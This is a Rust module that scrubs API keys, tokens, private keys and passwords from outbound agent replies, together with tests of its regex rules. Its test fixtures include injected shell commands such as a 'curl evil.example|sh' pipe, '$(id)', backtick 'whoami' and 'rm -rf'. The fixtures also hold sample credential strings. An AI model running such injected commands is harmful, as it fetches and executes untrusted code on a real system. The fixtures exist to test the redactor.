//! Redaction of credential-shaped text, for readers other than the person.
//!
//! The person's own view of a pending action is never redacted (see [`crate::action`]): they
//! approve exactly what runs. [`scrub_outbound`] is for what leaves Sextant towards anyone
//! else (A2A replies to remote callers, the MCP bridge, peers' replies handed to a model): it
//! replaces only the secret value itself and keeps the structure around it, so
//! `PASSWORD=x;touch${IFS}/tmp/f` reads `PASSWORD=[REDACTED];touch${IFS}/tmp/f`. It matches API
//! keys of well-known vendors, JWTs, bearer / `Authorization` values,
//!   PEM private keys, secret-named `KEY=value` and JSON fields, URL passwords, and (when
//!   configured) e-mail addresses. Regex-based, so its cost is linear in the text whatever the
//!   agent wrote.

/// What [`scrub_outbound`] puts in place of a credential.
pub const REDACTED: &str = "[REDACTED]";
/// What [`scrub_outbound`] puts in place of an e-mail address.
pub const REDACTED_EMAIL: &str = "[redacted-email]";

struct Rule {
    re: regex::Regex,
    /// The replacement (may use `${name}` groups to keep a key name or a prefix).
    with: &'static str,
}

static OUTBOUND: std::sync::LazyLock<Vec<Rule>> = std::sync::LazyLock::new(|| {
    OUTBOUND_RULES
        .iter()
        .map(|(re, with)| Rule {
            re: regex::Regex::new(re).unwrap_or_else(|e| panic!("redaction pattern {re:?}: {e}")),
            with,
        })
        .collect()
});

/// Every outbound rule in one automaton: one scan tells whether a text needs scrubbing at
/// all, which almost none does (ids, states, ordinary prose).
static OUTBOUND_ANY: std::sync::LazyLock<regex::RegexSet> = std::sync::LazyLock::new(|| {
    regex::RegexSet::new(OUTBOUND_RULES.iter().map(|(re, _)| *re))
        .unwrap_or_else(|e| panic!("redaction patterns: {e}"))
});

/// The outbound rules: (pattern, replacement), applied in order.
const OUTBOUND_RULES: &[(&str, &str)] = &[
    // PEM private keys (any kind): the header, the base64 body and the footer. The body is
    // base64 lines (each but the last at least 16 characters, as every key's are), so a
    // command that merely names the markers (`echo -----BEGIN PRIVATE KEY-----; touch F; echo
    // -----END PRIVATE KEY-----`) is not a key and stays exactly as it is: a separator or a
    // short word is never swallowed.
    (
        concat!(
            r"-----BEGIN[A-Z0-9 ]*PRIVATE KEY( BLOCK)?-----[ \t]*\r?\n?",
            r"(?:[A-Za-z0-9-]+: [^\r\n]*\r?\n)*[ \t]*\r?\n?",
            r"(?:[A-Za-z0-9+/]{16,}={0,2}[ \t]*\r?\n?[ \t]*)+",
            r"(?:[A-Za-z0-9+/]{1,15}={0,2}[ \t]*\r?\n?)?",
            r"-----END[A-Z0-9 ]*PRIVATE KEY( BLOCK)?-----"
        ),
        "[REDACTED PRIVATE KEY]",
    ),
    // An unterminated PEM private key (a cut one): its header and base64 body; whatever
    // follows the body is not the key and stays.
    (
        concat!(
            r"-----BEGIN[A-Z0-9 ]*PRIVATE KEY-----[ \t]*\r?\n?",
            r"(?:[A-Za-z0-9+/]{16,}={0,2}[ \t]*\r?\n?[ \t]*)+",
            r"(?:[A-Za-z0-9+/]{1,15}={0,2})?"
        ),
        "[REDACTED PRIVATE KEY]",
    ),
    // JWTs (and JWS): base64url header starting with {" , payload, signature.
    (
        r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*",
        REDACTED,
    ),
    // Authorization headers and bearer values, whatever the scheme.
    (
        r"(?i)(?P<k>\bauthorization[\x22']?\s*[:=]\s*[\x22']?)(?:(?:bearer|basic|token|digest|bot)\s+)?[A-Za-z0-9._~+/=:-]{8,}",
        "${k}[REDACTED]",
    ),
    (
        r"(?i)(?P<k>\bbearer\s+)[A-Za-z0-9._~+/=-]{16,}",
        "${k}[REDACTED]",
    ),
    (
        r"(?i)(?P<k>\b(?:x-api-key|x-auth-token|api-key|private-token)[\x22']?\s*[:=]\s*[\x22']?)[A-Za-z0-9._~+/=-]{8,}",
        "${k}[REDACTED]",
    ),
    // Vendor key formats.
    (
        r"\bsk-(?:proj-|ant-(?:api03-)?|svcacct-|admin-)?[A-Za-z0-9_-]{20,}",
        REDACTED,
    ),
    (r"\b(?:sk|rk|pk)_(?:live|test)_[A-Za-z0-9]{16,}", REDACTED),
    (r"\bgh[pousr]_[A-Za-z0-9]{30,}", REDACTED),
    (r"\bgithub_pat_[A-Za-z0-9_]{40,}", REDACTED),
    (r"\bglpat-[A-Za-z0-9_-]{20,}", REDACTED),
    (r"\bxox[abposr]-[A-Za-z0-9-]{10,}", REDACTED),
    (r"\bxapp-[0-9]-[A-Za-z0-9-]{20,}", REDACTED),
    (
        r"https://hooks\.slack\.com/services/[A-Za-z0-9/]+",
        REDACTED,
    ),
    (r"\b(?:AKIA|ASIA|AGPA|AIDA|AROA)[0-9A-Z]{16}\b", REDACTED),
    (r"\bAIza[0-9A-Za-z_-]{35}\b", REDACTED),
    (r"\bya29\.[0-9A-Za-z_-]{20,}", REDACTED),
    (r"\bhf_[A-Za-z0-9]{30,}", REDACTED),
    (r"\bnpm_[A-Za-z0-9]{36}\b", REDACTED),
    (r"\bpypi-AgE[A-Za-z0-9_-]{50,}", REDACTED),
    (r"\bdop_v1_[a-f0-9]{64}\b", REDACTED),
    (r"\bSG\.[A-Za-z0-9_-]{22}\.[A-Za-z0-9_-]{43}\b", REDACTED),
    (r"\b[0-9]{8,10}:AA[0-9A-Za-z_-]{33}\b", REDACTED),
    // Sextant's own tokens (owner, peer, assistant).
    (r"\bsx[tpa]_[A-Za-z0-9_]{20,}", REDACTED),
    // Secret-named assignments: KEY=value, export KEY="value" (any length: a one-letter
    // password is still a password). The value ends where a shell would end the word, so what
    // follows it (`;touch …`, `&& curl …`) stays visible.
    (
        r#"(?i)(?P<k>\b[A-Z0-9_.-]*(?:SECRET|TOKEN|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|APIKEY|ACCESS_?KEY|PRIVATE_?KEY|CLIENT_?SECRET|CREDENTIALS?|AUTH_?KEY)[A-Z0-9_.-]*=)(?:"[^"\n]+"|'[^'\n]+'|[^\s"',;&|<>()`$]+)"#,
        "${k}[REDACTED]",
    ),
    // … and KEY: value (four characters or more, so prose like "token: a" is left alone).
    (
        r#"(?i)(?P<k>\b[A-Z0-9_.-]*(?:SECRET|TOKEN|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|APIKEY|ACCESS_?KEY|PRIVATE_?KEY|CLIENT_?SECRET|CREDENTIALS?|AUTH_?KEY)[A-Z0-9_.-]*\s*:\s*)(?:"[^"\n]{4,}"|'[^'\n]{4,}'|[^\s"',;&|<>()`$]{4,})"#,
        "${k}[REDACTED]",
    ),
    // Secret-named JSON fields.
    (
        r#"(?i)(?P<k>"(?:[a-z0-9_]*(?:secret|token|password|passwd|api_?key|apikey|access_?key|private_?key|credential)[a-z0-9_]*)"\s*:\s*)"[^"]{4,}""#,
        "${k}\"[REDACTED]\"",
    ),
    // Passwords in URLs (scheme://user:password@host) and DSNs.
    (
        r"(?P<k>\b[a-zA-Z][a-zA-Z0-9+.-]*://[^/\s:@]+:)[^@\s/]{3,}(?P<at>@)",
        "${k}[REDACTED]${at}",
    ),
];

static EMAIL: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
    regex::Regex::new(r"\b[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}\b")
        .unwrap_or_else(|e| panic!("e-mail pattern: {e}"))
});

/// Replaces credential-shaped strings in `text` (and e-mail addresses when `emails`) with
/// [`REDACTED`] / [`REDACTED_EMAIL`]. Returns the input unchanged (borrowed) when nothing
/// matched.
pub fn scrub_outbound(text: &str, emails: bool) -> std::borrow::Cow<'_, str> {
    let mut out = std::borrow::Cow::Borrowed(text);
    if inert(text) {
        return out;
    }
    // No rule matches: nothing would be replaced. Otherwise the rules run in order as before
    // (a replacement can change what a later rule sees).
    let any = OUTBOUND_ANY.is_match(text);
    for rule in OUTBOUND.iter().filter(|_| any) {
        if rule.re.is_match(&out) {
            out = std::borrow::Cow::Owned(rule.re.replace_all(&out, rule.with).into_owned());
        }
    }
    if emails && EMAIL.is_match(&out) {
        out = std::borrow::Cow::Owned(EMAIL.replace_all(&out, REDACTED_EMAIL).into_owned());
    }
    out
}

/// Bytes of the strings no rule can match: those of ids (UUIDs, hex), RFC 3339 times and
/// numbers. Most strings in a reply are made of these alone, and [`scrub_outbound`] passes them
/// by without running the rules (a test proves, rule by rule, that none can match them).
const INERT: &[u8] = b"0123456789abcdef-:.TZ";

/// [`INERT`] as a table: a lookup per byte (searching the list per byte cost more than the
/// rules it skips).
static INERT_BYTE: [bool; 256] = {
    let mut table = [false; 256];
    let mut i = 0;
    while i < INERT.len() {
        table[INERT[i] as usize] = true;
        i += 1;
    }
    table
};

fn inert(text: &str) -> bool {
    text.bytes().all(|b| INERT_BYTE[usize::from(b)])
}

/// [`scrub_outbound`] over every string inside a JSON value (keys are left alone).
pub fn scrub_json(v: &mut serde_json::Value, emails: bool) {
    match v {
        serde_json::Value::String(s) => {
            if let std::borrow::Cow::Owned(clean) = scrub_outbound(s, emails) {
                *s = clean;
            }
        }
        serde_json::Value::Array(items) => items.iter_mut().for_each(|i| scrub_json(i, emails)),
        serde_json::Value::Object(map) => {
            // A pending interaction whose text loses anything says so, and loses its action's
            // digest: what this reader was shown is not what would run, so it has nothing to
            // approve that action with.
            let before = is_interaction(map).then(|| map.clone());
            for (k, i) in map.iter_mut() {
                // A part's `raw` bytes (base64) are a file, not text: no rule means anything
                // in them, and rewriting one would corrupt the file that is returned.
                if k == "raw" && i.as_str().is_some_and(is_base64) {
                    continue;
                }
                scrub_json(i, emails);
            }
            if before.is_some_and(|b| b != *map) {
                mark_masked(map);
            }
            drop_masked_digest_lines(map);
        }
        _ => {}
    }
}

/// Whether a JSON object is an interaction (a card): it has an id and declared options.
fn is_interaction(map: &serde_json::Map<String, serde_json::Value>) -> bool {
    map.contains_key("interactionId") && map.get("options").is_some_and(|o| o.is_array())
}

/// Marks an interaction whose text was redacted: `masked: true` on it and on its action, and
/// no action digest.
fn mark_masked(map: &mut serde_json::Map<String, serde_json::Value>) {
    map.insert(MASKED.into(), serde_json::Value::Bool(true));
    if let Some(serde_json::Value::Object(action)) = map.get_mut("action") {
        action.remove("digest");
        action.insert(MASKED.into(), serde_json::Value::Bool(true));
    }
}

/// A message (`parts`) carrying a masked interaction keeps no `Action digest:` line in its
/// texts either (the waiting task's status text names the digest for those who may answer).
fn drop_masked_digest_lines(map: &mut serde_json::Map<String, serde_json::Value>) {
    let Some(serde_json::Value::Array(parts)) = map.get_mut("parts") else {
        return;
    };
    let masked = parts.iter().any(|p| {
        p.pointer("/data/interaction/masked")
            .is_some_and(|m| m == true)
    });
    if !masked {
        return;
    }
    for p in parts.iter_mut() {
        if let Some(serde_json::Value::String(t)) = p.get_mut("text")
            && t.contains(DIGEST_LINE)
        {
            *t = t
                .lines()
                .filter(|l| !l.starts_with(DIGEST_LINE))
                .collect::<Vec<_>>()
                .join("\n");
        }
    }
}

/// How the waiting task's status text names the action digest (`sextant_runtime`'s
/// `pending_text`).
pub const DIGEST_LINE: &str = "Action digest: ";

/// The field a redacted interaction (and its action) carries: what this reader sees is not
/// exactly what would run, and it cannot approve it.
pub const MASKED: &str = "masked";

/// Whether a string is standard base64 (the JSON form of a part's `raw` bytes).
fn is_base64(s: &str) -> bool {
    s.bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=')
}

#[cfg(test)]
mod tests {
    /// No outbound rule, nor the e-mail rule, matches any string made only of [`super::INERT`]
    /// bytes, however long: each pattern is compiled to a DFA, and no match state is reachable
    /// from any start through those bytes alone. A rule that could match such a string (say a
    /// run of hex digits) fails this test, and `scrub_outbound` would skip what it must check.
    #[test]
    fn no_rule_matches_an_inert_string() {
        use regex_automata::dfa::{Automaton, StartKind, dense};
        use regex_automata::{Anchored, nfa::thompson, util::start, util::syntax};

        let patterns = super::OUTBOUND_RULES
            .iter()
            .map(|(re, _)| *re)
            .chain([super::EMAIL.as_str()]);
        for pattern in patterns {
            // Byte-oriented and ASCII word boundaries: the same as the real rules on ASCII text,
            // which is all an inert string can be.
            let dfa = dense::Builder::new()
                .syntax(syntax::Config::new().unicode(false).utf8(false))
                .thompson(thompson::Config::new().utf8(false))
                .configure(dense::Config::new().start_kind(StartKind::Unanchored))
                .build(pattern)
                .unwrap_or_else(|e| panic!("{pattern}: {e}"));
            let behind = [None, Some(b'\n'), Some(b' ')]
                .into_iter()
                .chain(super::INERT.iter().map(|b| Some(*b)));
            let mut todo: Vec<_> = behind
                .map(|b| {
                    let config = start::Config::new().anchored(Anchored::No).look_behind(b);
                    dfa.start_state(&config).unwrap()
                })
                .collect();
            let mut seen = std::collections::HashSet::new();
            while let Some(state) = todo.pop() {
                if !seen.insert(state) || dfa.is_dead_state(state) {
                    continue;
                }
                let end = dfa.next_eoi_state(state);
                assert!(
                    !dfa.is_match_state(state) && !dfa.is_match_state(end),
                    "{pattern} matches a string of inert bytes; narrow `INERT`"
                );
                todo.extend(super::INERT.iter().map(|b| dfa.next_state(state, *b)));
            }
        }
        // Ids and times are inert; a vendor key's prefix is not.
        assert!(super::inert("0123abcd-2026-11-30T08:24:57.143Z"));
        assert!(!super::inert("sk-proj-0123"));
    }

    use super::{scrub_json, scrub_outbound};

    fn scrubbed(s: &str) -> String {
        scrub_outbound(s, false).into_owned()
    }

    #[test]
    fn outbound_text_loses_credentials_and_keeps_the_rest() {
        let samples: &[(&str, &str)] = &[
            (
                "Set OPENAI_API_KEY=sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z and rerun.",
                "Set OPENAI_API_KEY=[REDACTED] and rerun.",
            ),
            (
                "the key is sk-ant-api03-AAAABBBBCCCCDDDDEEEEFFFFGGGGHHHH0000 ok",
                "the key is [REDACTED] ok",
            ),
            (
                "curl -H \"Authorization: Bearer ghp_16C7e42F292c6912E7710c838347Ae178B4a\" https://api.github.com",
                "curl -H \"Authorization: [REDACTED]\" https://api.github.com",
            ),
            (
                "token eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U used",
                "token [REDACTED] used",
            ),
            (
                "aws: AKIAIOSFODNN7EXAMPLE / wJalrXUtnFEMI",
                "aws: [REDACTED] / wJalrXUtnFEMI",
            ),
            (
                "{\"client_secret\": \"9f8e7d6c5b4a\", \"name\": \"demo\"}",
                "{\"client_secret\": \"[REDACTED]\", \"name\": \"demo\"}",
            ),
            (
                "DATABASE_URL=postgres://app:s3cr3tP4ss@db.internal:5432/app",
                "DATABASE_URL=postgres://app:[REDACTED]@db.internal:5432/app",
            ),
            (
                "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx posted",
                "[REDACTED] posted",
            ),
            (
                "use sxp_0123456789abcdef0123456789abcdef to call",
                "use [REDACTED] to call",
            ),
            (
                "export GITHUB_TOKEN='abc123def456'",
                "export GITHUB_TOKEN=[REDACTED]",
            ),
            ("password: hunter22", "password: [REDACTED]"),
        ];
        for (input, want) in samples {
            assert_eq!(scrubbed(input), *want, "input: {input}");
        }
        let pem = "key:\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\nAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\nend";
        assert_eq!(scrubbed(pem), "key:\n[REDACTED PRIVATE KEY]\nend");
        // Markers alone are not a key: nothing between them is swallowed.
        let named = "echo -----BEGIN PRIVATE KEY-----; touch F; echo -----END PRIVATE KEY-----";
        assert_eq!(scrubbed(named), named);
        let named = "echo -----BEGIN PRIVATE KEY----- ; touch /tmp/f";
        assert_eq!(scrubbed(named), named);
        // A key, then a command: the key goes, the command stays.
        let then = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nAQ==\n-----END PRIVATE KEY-----; touch F";
        assert_eq!(scrubbed(then), "[REDACTED PRIVATE KEY]; touch F");
        let flat = "K='-----BEGIN PRIVATE KEY----- MIIEvQIBADANBgkqhkiG9w0BAQEFAASC AQ== -----END PRIVATE KEY-----'";
        assert_eq!(scrubbed(flat), "K='[REDACTED PRIVATE KEY]'");
        let cut_then = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA;rm -rf x";
        assert_eq!(scrubbed(cut_then), "[REDACTED PRIVATE KEY];rm -rf x");
        let cut = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA";
        assert_eq!(scrubbed(cut), "[REDACTED PRIVATE KEY]");
        // Ordinary output is untouched (and not copied).
        for fine in [
            "Build finished in 4.2 s; 128 tests passed.",
            "see https://docs.rs/regex and commit 2af6ed5",
            "task 0190e1b2-7c3d-7a4b-9c2d-1e2f3a4b5c6d completed",
            "the token bucket refills every second",
            "ssh git@github.com:org/repo.git",
        ] {
            assert!(
                matches!(scrub_outbound(fine, false), std::borrow::Cow::Borrowed(_)),
                "{fine} -> {}",
                scrubbed(fine)
            );
        }
    }

    #[test]
    fn e_mails_go_only_when_asked_and_json_is_walked() {
        let t = "mail ada.lovelace+ops@example.co.uk or bob@corp.example";
        assert_eq!(scrub_outbound(t, false), t);
        assert_eq!(
            scrub_outbound(t, true),
            "mail [redacted-email] or [redacted-email]"
        );
        let mut v = serde_json::json!({
            "parts": [{ "text": "key sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z" }],
            "metadata": { "note": ["Bearer abcdefghijklmnopqrstuvwxyz012345"] },
            "sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z": 1,
        });
        scrub_json(&mut v, false);
        assert_eq!(v["parts"][0]["text"], "key [REDACTED]");
        assert_eq!(v["metadata"]["note"][0], "Bearer [REDACTED]");
    }

    /// A file's bytes come back exactly: base64 that happens to look like a key is not text.
    /// A `raw` that is not base64, and the text beside it, are still scrubbed.
    #[test]
    fn a_masked_interaction_says_so_and_loses_its_digest() {
        let card = |command: &str| {
            serde_json::json!({ "interaction": {
                "interactionId": "i1", "options": [{ "id": "accept", "label": "Yes" }],
                "command": command,
                "action": { "exact": { "command": command }, "digest": "sha256:ab", "shown": command },
            }})
        };
        let mut clean = card("ls -l");
        super::scrub_json(&mut clean, false);
        assert_eq!(clean, card("ls -l"), "nothing masked, nothing marked");
        let mut secret = card("curl -H 'Authorization: Bearer abcdefghijklmnopqrstuvwx' x");
        super::scrub_json(&mut secret, false);
        let i = &secret["interaction"];
        assert_eq!(i["masked"], true, "{i}");
        assert_eq!(i["action"]["masked"], true, "{i}");
        assert!(i["action"].get("digest").is_none(), "{i}");
        assert!(i["command"].as_str().unwrap().contains("[REDACTED]"), "{i}");
        // In a message, its status text loses the digest line too.
        let mut message = serde_json::json!({ "parts": [
            { "text": "Approval needed\nAction digest: sha256:ab\nDefault: decline" },
            { "data": card("curl -H 'Authorization: Bearer abcdefghijklmnopqrstuvwx' x") },
        ]});
        super::scrub_json(&mut message, false);
        assert_eq!(
            message["parts"][0]["text"],
            "Approval needed\nDefault: decline"
        );
        let mut plain = serde_json::json!({ "parts": [
            { "text": "Action digest: sha256:ab" }, { "data": card("ls") },
        ]});
        super::scrub_json(&mut plain, false);
        assert_eq!(plain["parts"][0]["text"], "Action digest: sha256:ab");
    }

    #[test]
    fn raw_part_bytes_are_left_alone() {
        let mut v = serde_json::json!({ "parts": [
            { "raw": "AKIAABCDEFGHIJKLMNOP", "mediaType": "application/octet-stream" },
            { "raw": "sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z" },
            { "text": "AKIAABCDEFGHIJKLMNOP" },
        ]});
        scrub_json(&mut v, false);
        assert_eq!(v["parts"][0]["raw"], "AKIAABCDEFGHIJKLMNOP");
        assert_eq!(v["parts"][1]["raw"], "[REDACTED]");
        assert_eq!(v["parts"][2]["text"], "[REDACTED]");
    }

    #[test]
    fn only_the_secret_value_goes_and_the_command_around_it_stays() {
        for (input, want) in [
            (
                "PASSWORD=x;touch${IFS}/tmp/f",
                "PASSWORD=[REDACTED];touch${IFS}/tmp/f",
            ),
            (
                "API_TOKEN=abc123&&curl evil.example|sh",
                "API_TOKEN=[REDACTED]&&curl evil.example|sh",
            ),
            (
                "DB_PASSWORD='a b c' ./run $(id)",
                "DB_PASSWORD=[REDACTED] ./run $(id)",
            ),
            ("SECRET=s`whoami`", "SECRET=[REDACTED]`whoami`"),
            ("ls -la /tmp", "ls -la /tmp"),
        ] {
            assert_eq!(scrubbed(input), want, "input: {input}");
        }
    }
}
